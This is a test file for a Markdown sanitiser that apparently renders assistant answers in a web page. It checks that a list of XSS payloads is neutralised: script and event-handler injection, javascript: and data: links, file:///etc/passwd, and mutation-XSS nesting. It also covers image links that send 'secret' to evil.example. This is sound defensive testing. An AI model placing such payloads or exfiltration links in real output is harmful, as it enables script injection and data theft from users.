import { describe, expect, test } from "vitest";

import { splitBlocks, type Block } from "./blocks";
import { sanitise } from "./sanitise";

/** The page as the answer would build it: sanitised markup in an element of its own. */
function pageOf(source: string): HTMLElement {
  const page = document.createElement("div");
  for (const block of splitBlocks(source)) {
    const part = document.createElement("div");
    if (block.kind === "code") part.textContent = block.text;
    else part.innerHTML = sanitise(block.html);
    page.append(part);
  }
  return page;
}

/** Nothing in the page may load, run, style, name or submit anything. */
function checkHarmless(page: HTMLElement): void {
  for (const element of page.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(["class", "dir", "href", "rel", "start", "target"], element.outerHTML).toContain(name);
      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/iu);
    }
  }
  expect(page.querySelector("img,script,style,iframe,object,svg,math,form,input,link")).toBeNull();
}

describe("hostile Markdown", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><style>@import url(//evil.example)</style></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/v1/session)",
    "![secret](https://evil.example/leak?q=secret)",
    "![a][r]\n\n[r]: https://evil.example/leak",
    "[![a](https://evil.example/i)](https://evil.example)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://evil.example)',
    '<https://evil.example/"onmouseover=alert(1)>',
    "| a |\n|:-:|\n| <img src=x> |",
    "- <iframe src=//evil.example></iframe>",
    "> <form action=//evil.example><input></form>",
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>1</script>\n```',
    "&lt;img src=x onerror=alert(1)&gt;",
    "<style>*{background:url(//evil.example)}</style>",
  ])("%s", (source) => {
    checkHarmless(pageOf(source));
  });

  test("markup that did not come from Markdown is cut too", () => {
    const page = document.createElement("div");
    page.innerHTML = sanitise(
      '<p style="color:red" id="x" class="composer" onclick="a()">t<img src="https://e.example/">' +
        '<a href="//e.example" class="link-host">l</a><template><img></template></p>',
    );
    checkHarmless(page);
    expect(page.querySelector(".composer")).toBeNull();
    expect(page.textContent).toContain("t");
  });
});

test("cells stand as their column says, without inline style", () => {
  const page = pageOf("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |");
  const classes = [...page.querySelectorAll("td")].map(({ className }) => className);
  expect(classes).toEqual(["", "cell-middle", "cell-end"]);
  checkHarmless(page);
});

describe("pictures and links", () => {
  test("a picture becomes words, with its host and without its address", () => {
    const page = pageOf("Look: ![a chart](https://evil.example/leak?q=secret)");
    expect(page.textContent).toBe("Look: [image · a chart · evil.example]\n");
  });

  test("a link shows its host and keeps no referrer", () => {
    const link = pageOf("[the law](https://www.legifrance.gouv.fr/codes)").querySelector("a");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.target).toBe("_blank");
    expect(link?.parentElement?.textContent).toBe("the law (www.legifrance.gouv.fr)");
  });

  test("a link that already says where it leads is not repeated", () => {
    expect(pageOf("<https://a.example/b>").textContent).toBe("https://a.example/b\n");
  });

  test("a refused link stays readable text", () => {
    expect(pageOf("[x](javascript:alert(1))").textContent).toBe("[x](javascript:alert(1))\n");
  });
});

describe("blocks", () => {
  function kinds(blocks: Block[]): string[] {
    return blocks.map(({ kind }) => kind);
  }

  test("each top-level block stands alone", () => {
    const source = "# T\n\nText\n\n- a\n- b\n\n```rust\nfn a() {}\n```\n\n> q\n\n---\n";
    const blocks = splitBlocks(source);
    expect(kinds(blocks)).toEqual(["markup", "markup", "markup", "code", "markup", "markup"]);
    expect(blocks[3]).toEqual({ kind: "code", language: "rust", text: "fn a() {}" });
  });

  test("headings start below the heading of the answer", () => {
    expect(pageOf("# T").querySelector("h4")?.textContent).toBe("T");
    expect(pageOf("###### T").querySelector("h6")?.textContent).toBe("T");
  });

  test("a code block that still streams is already a code block", () => {
    expect(splitBlocks("a\n\n```py\nprint(")).toEqual([
      { kind: "markup", html: "<p>a</p>\n", text: " a " },
      { kind: "code", language: "py", text: "print(" },
    ]);
  });

  test("more text leaves earlier blocks as they were", () => {
    const early = splitBlocks("one\n\ntwo");
    const later = splitBlocks("one\n\ntwo three\n\nfour");
    expect(later[0]).toEqual(early[0]);
  });
});
